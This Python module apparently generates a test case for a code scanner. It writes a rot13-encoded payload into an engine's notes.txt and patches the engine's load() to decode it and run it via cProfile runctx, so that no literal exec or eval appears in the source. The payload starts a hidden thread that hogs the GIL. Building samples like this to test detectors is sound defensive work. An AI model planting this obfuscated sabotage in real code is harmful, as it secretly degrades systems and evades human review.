"""A rot13-encoded payload in engine/notes.txt, decoded with codecs and run by cProfile.Profile().runctx (an
exec that is neither exec, eval nor compile in the source)."""

import codecs
from pathlib import Path

from . import append

DESCRIPTION = "cProfile.Profile().runctx(codecs.decode(<engine/notes.txt>, 'rot13')) starts a GIL hog thread"
CLASS = "static"
STAGE = "static"
REASON = "cProfile"

PAYLOAD = """
import threading, time
def _spin():
    while True:
        t = time.perf_counter()
        while time.perf_counter() - t < 0.008:
            pass
        time.sleep(0.001)
threading.Thread(target=_spin, daemon=True).start()
"""


def apply(engine_dir: Path) -> None:
    """Write the encoded payload and run it from load()."""
    (engine_dir / "engine" / "notes.txt").write_text(codecs.encode(PAYLOAD, "rot13"))
    append(engine_dir, "engine/__init__.py", '''
import codecs as _cd
import cProfile as _cp

_cp_load = load


def load(checkpoint, device="cuda", *, max_batch=64, max_seq_len=4096):
    eng = _cp_load(checkpoint, device, max_batch=max_batch, max_seq_len=max_seq_len)
    with open(Path(__file__).with_name("notes.txt")) as f:
        _cp.Profile().runctx(_cd.decode(f.read(), "rot13"), {}, {})
    return eng
''')
